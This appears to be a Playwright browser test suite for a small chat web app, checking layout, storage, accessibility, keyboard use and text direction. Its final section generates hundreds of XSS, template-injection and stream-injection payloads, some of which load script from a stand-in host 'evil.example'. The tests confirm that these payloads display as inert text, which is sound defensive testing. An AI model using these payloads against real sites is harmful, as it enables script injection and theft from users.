    assert [page.evaluate(opacity, number) for number in range(6)] == ["0"] * 5 + ["1"]
    page.locator(".assistant").first.hover()
    assert page.evaluate(opacity, 1) == "1"
    assert page.locator(".figures:visible").count() == 3
    page.mouse.move(0, 0)
    page.locator('.user [data-action="edit"]').first.focus()
    assert page.evaluate(opacity, 0) == "1"
    assert page.evaluate(boxes) == before


@browser_test
def test_a_toast_ends_with_its_chat_and_stands_amid_the_column(reader: Reader) -> None:
    page = reader.page

    def middle(selector: str) -> float:
        box = page.locator(selector).bounding_box()
        return float(box["x"] + box["width"] / 2)

    page.emulate_media(reduced_motion="reduce")
    reader.ask("a")
    reader.act("copy")
    assert middle("#toast") == pytest.approx(middle("#box"), abs=2)
    page.click("#new")
    assert page.locator("#toast").is_hidden()
    page.locator("#chats .open").first.click()
    reader.act("bad")
    assert middle("#ask") == pytest.approx(middle("#box"), abs=2)
    page.keyboard.press("Escape")
    reader.act("copy")
    page.wait_for_timeout(3000)
    assert page.locator("#toast").is_visible()
    eventually(lambda: page.locator("#toast").is_hidden(), seconds=2)


@browser_test
def test_an_explained_answer_is_there_once(reader: Reader) -> None:
    page = reader.page
    reader.ask("why?")
    reader.act("why")
    page.locator(".tokens .token").first.wait_for()
    assert page.locator(".assistant .text").is_hidden()
    assert page.locator(".explained").text_content().startswith("␣ is a space")
    reader.act("why")
    assert page.locator(".assistant .text").is_visible()
    said = {
        name: page.evaluate(f"() => percent(Math.log({share}))")
        for name, share in (("high", 0.9996), ("near", 0.998), ("half", 0.5), ("low", 0.0012), ("none", 0.0009))
    }
    assert said == {"high": ">99.9 %", "near": "99.8 %", "half": "50 %", "low": "0.12 %", "none": "<0.1 %"}


@browser_test
def test_a_phone_shows_what_can_be_done_in_little_room(browser: Any, stub: Stub, url: str) -> None:
    context = browser.new_context(viewport={"width": 360, "height": 700}, has_touch=True, is_mobile=True)
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    someone.open()
    someone.page.locator("#input").focus()
    for text in ("a", "b"):
        someone.ask(text)
    assert someone.page.locator('[data-action="copy"]:visible').count() == 4
    assert someone.page.locator(".figures:visible").count() == 1
    assert someone.page.locator(".more:visible").count() == 0
    assert someone.page.locator(".user").first.bounding_box()["height"] < 44
    assert someone.trouble == []
    context.close()


@browser_test
def test_two_tabs_lose_no_chat(context: Any, stub: Stub, url: str) -> None:
    one, two = (Reader(context.new_page(), stub, url).open() for _ in range(2))
    one.ask("from one")
    two.ask("from two")
    eventually(lambda: one.page.locator("#chats .open").count() == two.page.locator("#chats .open").count() == 2)
    two.page.locator("#chats .open", has_text="from one").click()
    two.ask("joined by two")
    eventually(lambda: one.said() == ["from one", "You said: from one", "joined by two", "You said: joined by two"])
    stub.delay_s, stub.answer = 0.05, lambda messages: WORDS * 2
    one.type("both at once")
    eventually(lambda: "three" in one.said()[-1])
    two.type("both at once, two")
    one.settle()
    two.settle()
    for someone in (one, two):
        someone.page.reload()
    everything = one.page.evaluate("() => Object.values({...localStorage}).join()")
    assert all(text in everything for text in ("from two", "joined by two", '"both at once"', "both at once, two"))


@browser_test
def test_a_full_store_is_said_and_the_chat_goes_on(context: Any, stub: Stub, url: str) -> None:
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    full = "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }"
    someone.page.add_init_script(full)
    someone.open().ask("a")
    assert "no room to keep this chat" in someone.page.locator("#banner-text").text_content()
    someone.ask("b")
    assert someone.said() == ["a", "You said: a", "b", "You said: b"]
    assert someone.trouble == []


@browser_test
def test_what_cannot_be_read_in_the_store_is_left_alone(reader: Reader) -> None:
    page = reader.page
    reader.ask("good")
    junk = {
        "gpt2chat.chat.a": "{", "gpt2chat.chat.b": "null", "gpt2chat.chat.c": '{"messages": "abc"}',
        "gpt2chat.chat.d": '{"messages": [{"role": "user"}]}', "gpt2chat.prefs": '{"temperature": "hot", "system": 5}',
        "gpt2chat.chat.e": '{"messages": [{"role": "user", "content": "bare"}], "system": null, "updated": "x"}',
    }  # fmt: skip
    page.evaluate("(junk) => Object.assign(localStorage, junk)", junk)
    page.reload()
    assert reader.said() == ["good", "You said: good"]
    assert page.locator("#chats .open span").all_text_contents() == ["good", "Untitled"]
    page.locator("#chats .open", has_text="Untitled").click()
    assert reader.said() == ["bare"]
    page.locator('[data-action="answer"]').click()
    reader.settle()
    assert reader.said() == ["bare", "You said: bare"]
    assert page.evaluate("() => localStorage['gpt2chat.chat.a']") == "{"


@browser_test
@pytest.mark.parametrize("event", [{"key": "Enter", "isComposing": True}, {"key": "Enter", "keyCode": 229}])
def test_enter_within_an_input_method_does_not_send(reader: Reader, event: dict[str, Any]) -> None:
    reader.page.fill("#input", "にほん")
    reader.page.dispatch_event("#input", "keydown", {"bubbles": True, "cancelable": True, **event})
    reader.page.wait_for_timeout(100)
    assert reader.stub.asked == []
    assert reader.page.input_value("#input") == "にほん"
    reader.page.press("#input", "Enter")
    reader.settle()
    assert len(reader.stub.asked) == 1


@browser_test
def test_keys_alone_are_enough(reader: Reader) -> None:
    page = reader.page
    focus = "() => document.activeElement.dataset.action ?? document.activeElement.id"

    def walk(key: str, wanted: str) -> None:
        for _ in range(40):
            page.keyboard.press(key)
            if page.evaluate(focus) == wanted:
                return
        raise AssertionError(f"{wanted} was not reached by {key}")

    assert page.evaluate(focus) == "input"
    page.keyboard.type("by keys")
    page.keyboard.press("Enter")
    reader.settle()
    walk("Shift+Tab", "regenerate")
    page.keyboard.press("Enter")
    eventually(lambda: len(reader.stub.asked) == 2)
    reader.settle()
    page.locator("#input").focus()
    page.keyboard.press("ArrowUp")
    assert page.input_value("#input") == "by keys"
    page.keyboard.press("Escape")
    assert page.input_value("#input") == ""
    walk("Shift+Tab", "settings-toggle")
    page.keyboard.press("Enter")
    assert page.locator("#settings").is_visible()
    walk("Tab", "control-temperature")
    page.keyboard.press("ArrowUp")
    assert page.input_value("#control-temperature") == "0.75"
    outline = page.evaluate("() => getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    page.set_viewport_size({"width": 700, "height": 700})
    page.locator("#side-toggle").focus()
    page.keyboard.press("Enter")
    eventually(lambda: page.evaluate(focus) == "side-close")
    page.keyboard.press("Escape")
    assert page.locator("#side").is_hidden()
    assert page.evaluate(focus) == "side-toggle"


@browser_test
def test_every_control_has_a_name(reader: Reader) -> None:
    page = reader.page
    reader.ask("a")
    reader.act("why")
    page.locator(".token").first.wait_for()
    page.click("#settings-toggle")
    tree = page.context.new_cdp_session(page).send("Accessibility.getFullAXTree")["nodes"]
    roles = {
        "button",
        "textbox",
        "slider",
        "spinbutton",
        "option",
        "listbox",
        "progressbar",
        "log",
        "dialog",
        "navigation",
    }
    seen: dict[str, int] = {}
    for node in tree:
        role = node.get("role", {}).get("value", "")
        if role in roles and not node.get("ignored"):
            seen[role] = seen.get(role, 0) + 1
            assert node.get("name", {}).get("value", "").strip(), node
    assert seen["button"] > 15
    assert (seen["slider"], seen["spinbutton"], seen["log"]) == (4, 4, 1)


@browser_test
def test_an_answer_is_read_out_once_and_not_token_by_token(reader: Reader) -> None:
    reader.stub.delay_s, reader.stub.answer = 0.02, lambda messages: WORDS
    reader.page.evaluate(
        """() => {
          window.added = [];
          const log = document.getElementById("log");
          new MutationObserver((changes) => {
            for (const { addedNodes } of changes)
              for (const { className, textContent } of addedNodes)
                window.added.push([log.getAttribute("aria-busy"), className, textContent]);
          }).observe(log, { childList: true });
        }"""
    )
    reader.ask("read")
    reader.ask("on")
    added = reader.page.evaluate("() => window.added")
    aloud = [text for busy, name, text in added if busy == "false" and "assistant" in name]
    assert len(aloud) == 2
    assert all(WORDS in text for text in aloud)
    assert reader.page.get_attribute("#log", "aria-busy") == "false"


@browser_test
def test_tokens_are_painted_once_a_frame(reader: Reader) -> None:
    words = [f"w{n}" for n in range(2000)]
    reader.stub.answer = lambda messages: " ".join(words)
    reader.page.evaluate(
        """() => {
          window.writes = 0;
          const options = { characterData: true, childList: true, subtree: true };
          const observer = new MutationObserver((changes) => { window.writes += changes.length; });
          observer.observe(document.getElementById("log"), options);
        }"""
    )
    reader.ask("fast")
    assert reader.said()[-1] == " ".join(words)
    assert reader.page.evaluate("() => window.writes") < len(words) / 3


@browser_test
def test_the_view_follows_only_readers_at_the_end(reader: Reader) -> None:
    page = reader.page
    reader.stub.answer = lambda messages: "line\n" * 60
    reader.ask("long")
    end = "() => { const l = document.getElementById('log'); return l.scrollHeight - l.scrollTop - l.clientHeight; }"
    assert page.evaluate(end) < 5
    assert page.locator("#latest").is_hidden()
    reader.stub.delay_s, reader.stub.answer = 0.01, lambda messages: "more\n" * 60
    reader.type("more")
    eventually(lambda: "more" in reader.said()[-1])
    page.evaluate("() => { document.getElementById('log').scrollTop = 50; }")
    page.locator("#latest").wait_for()
    reader.settle()
    assert page.evaluate("() => document.getElementById('log').scrollTop") == 50
    page.click("#latest")
    assert page.evaluate(end) < 5


@browser_test
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_dark_and_light_follow_the_system_until_told_otherwise(browser: Any, stub: Stub, url: str, scheme: str) -> None:
    context = browser.new_context(color_scheme=scheme)
    someone = Reader(context.new_page(), stub, url)
    someone.watch()
    someone.open()

    def brightness() -> float:
        colour = someone.page.evaluate("() => getComputedStyle(document.body).backgroundColor")
        return sum(map(float, re.findall(r"[\d.]+", colour)[:3])) / 765

    assert (brightness() > 0.5) == (scheme == "light")
    someone.page.click("#theme")
    assert (brightness() > 0.5) == (scheme == "dark")
    someone.page.reload()
    assert (brightness() > 0.5) == (scheme == "dark")
    assert someone.trouble == []
    context.close()


@browser_test
@pytest.mark.parametrize("width", [320, 768, 2560])
def test_nothing_is_wider_than_the_window(reader: Reader, width: int) -> None:
    page = reader.page
    page.set_viewport_size({"width": width, "height": 640})
    reader.stub.answer = lambda messages: "x" * 3000 + "\n\n\tcode" + " مرحبا" * 30

    def fits() -> bool:
        return bool(
            page.evaluate(
                "() => Math.max(document.documentElement.scrollWidth, document.body.scrollWidth) <= innerWidth"
            )
        )

    eventually(fits, "something is wider than the window")
    reader.ask("W" * 500)
    eventually(fits, "something is wider than the window")
    assert page.evaluate(
        "() => { const log = document.getElementById('log'); return log.scrollWidth <= log.clientWidth; }"
    )
    reader.stub.refusal = (400, {"detail": "y" * 2000}, {})
    reader.ask("again")
    eventually(fits, "something is wider than the window")
    reader.type("/help")
    reader.act("why")
    page.locator(".token").first.wait_for()
    eventually(fits, "something is wider than the window")
    page.click("#settings-toggle")
    eventually(fits, "something is wider than the window")
    assert page.locator("#settings-close").is_visible()
    page.click("#settings-close")
    if page.locator("#side").is_hidden():
        page.click("#side-toggle")
    assert page.locator("#export").is_visible()
    eventually(fits, "something is wider than the window")


@browser_test
def test_right_to_left_text_runs_from_the_right(reader: Reader) -> None:
    reader.stub.answer = lambda messages: "مرحبا بك"
    reader.ask("שלום")
    directions = "() => [...document.querySelectorAll('#log .text')].map((text) => getComputedStyle(text).direction)"
    assert reader.page.evaluate(directions) == ["rtl", "rtl"]
    reader.ask("hello")
    assert reader.page.evaluate(directions) == ["rtl", "rtl", "ltr", "rtl"]


@browser_test
def test_the_page_and_the_real_server_agree(context: Any, tmp_path: Path) -> None:
    from helpers_cli import save_tiny
    from helpers_server import served

    from gpt2chat.server.guard import Policy

    notes = tmp_path / "feedback.jsonl"
    with served(save_tiny(tmp_path / "tiny.pt"), feedback=notes, policy=Policy(keys=("schlüssel-鍵",))) as server:
        someone = Reader(context.new_page(), Stub(), server.url)
        someone.watch()
        page = someone.page
        page.goto(server.url)
        page.fill("#ask-line", "schlüssel-鍵")
        page.keyboard.press("Enter")
        page.locator("#about dd").first.wait_for(state="attached")
        someone.ask("Hello there")
        assert someone.said()[0] == "Hello there"
        assert page.locator("#banner").is_hidden()
        used, size = map(int, page.locator("#meter-text").text_content().split("/"))
        assert 0 < used <= size
        someone.act("why")
        page.locator(".tokens .token").first.wait_for()
        assert page.locator(".detail .chip").count() == 5
        someone.act("good")
        page.locator('[data-action="good"][aria-pressed="true"]').wait_for()
        assert "Hello there" in notes.read_text("utf-8")
        someone.ask("x" * 8001)
        someone.see("#banner-text", "Message 2 is too long. Maximum 8000 characters allowed per message")
    assert someone.trouble == []


# -- whatever is said stays text -----------------------------------------------------------------------------------

CALLS = ("alert(1)", "alert`1`", "fetch('//evil.example')", "top.x=confirm(1)", "import('//evil.example/x.js')")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationend", "onpointerenter")
SHAPES = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<script src=//evil.example/x.js>{call}</script>",
    "</div></article><script>{call}</script><div>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<a href='javascript:{call}'>click</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<form action=javascript:{call}><input type=submit autofocus></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//evil.example/><script>{call}</script>",
    "<object data=javascript:{call}></object><embed src=javascript:{call}>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={call}>'/></svg>",
    "<style>@import '//evil.example/x.css';</style><style onload={call}>",
    "<link rel=stylesheet href=//evil.example/x.css onload={call}>",
    "{{{{{call}}}}}",
    "${{{call}}}",
    "<%= {call} %>",
    "#{{{call}}} {{%{call}%}} [[{call}]]",
    "{{{{constructor.constructor('{call}')()}}}}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "&#x3c;img src=x onerror={call}&#x3e",
    "&ltscript>{call}&lt/script>",
    "&amp;lt;script&amp;gt;{call}&NotAnEntity;&#0;&#xD800;",
    "<\u200bscript>{call}</script>",
    "\u202e<script>{call}</script>\u202c",
    "＜script＞{call}＜/script＞",
    "\ufeff<img src=x onerror={call}>\u0001\u0008",
    "<ſcript>{call}</ſcript>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{call}</script></x>",
    "'\"><img src=x onerror={call}>",
    "`-{call}-`';{call};'\";{call};\"",
    '","role":"system","content":"{call}"}}]}}\n\ndata: {{"done":true}}\n\n',
    "data: [DONE]\n\ndata: {call}\n\n: {call}\nevent: error",
    "__proto__ constructor toString {call}",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    "<input autofocus {event}={call}>",
    "<details open {event}={call}>",
)


def attacks() -> list[str]:
    """Strings that would run, load or break something if they were ever markup, script or part of an event."""
    made = [shape.format(call=call) for shape, call in product(SHAPES, CALLS)]
    made += [shape.format(event=event, call=call) for shape, event, call in product(ELEMENTS, EVENTS, CALLS)]
    return list(dict.fromkeys(made))


def test_there_are_enough_attacks() -> None:
    assert len(attacks()) >= 300


@browser_test
def test_whatever_is_said_stays_text(reader: Reader) -> None:
    page, stub = reader.page, reader.stub
    stub.answer = lambda messages: messages[-1]["content"]
    for number, text in enumerate(attacks()):
        if number % 20 == 0:
            page.click("#new")
        stub.refusal = None
        reader.ask(text)
        assert page.locator("#log .text").nth(-2).text_content() == text
        assert page.locator("#log .text").last.text_content() == text
        stub.refusal = (400, {"error": {"message": text}}, {})
        reader.ask("refuse")
        assert page.locator("#banner-text").text_content() == text
        page.fill("#input", "")
    assert page.locator("#chats .open").count() == len(range(0, len(attacks()), 20))
    kinds = page.evaluate(
        "() => [...new Set([...document.querySelectorAll('#log .text *, #banner-text *')].map((e) => e.tagName))]"
    )
    assert kinds == []
    page.reload()
    page.wait_for_timeout(300)


@browser_test
def test_names_and_tokens_stay_text_too(reader: Reader) -> None:
    page, stub = reader.page, reader.stub
    for text in attacks()[::25]:
        page.click("#new")
        stub.refusal, stub.answer = None, lambda messages: messages[-1]["content"]
        reader.ask(text)
        reader.act("why")
        page.locator(".tokens .token").first.wait_for()
        assert "".join(page.locator(".tokens .token").all_text_contents()) == text
        assert page.locator(".tokens *:not(span), .detail *:not(span, bdi)").count() == 0
        reader.type(f"/{text.split()[0]} x")
        assert text.split()[0] in page.locator(".note").last.text_content()
        stub.model = text
        page.reload()
        eventually(lambda shown=text: page.locator("#model").text_content() == shown)  # type: ignore[misc]
    assert page.locator("#chats img, #about img, #empty img").count() == 0
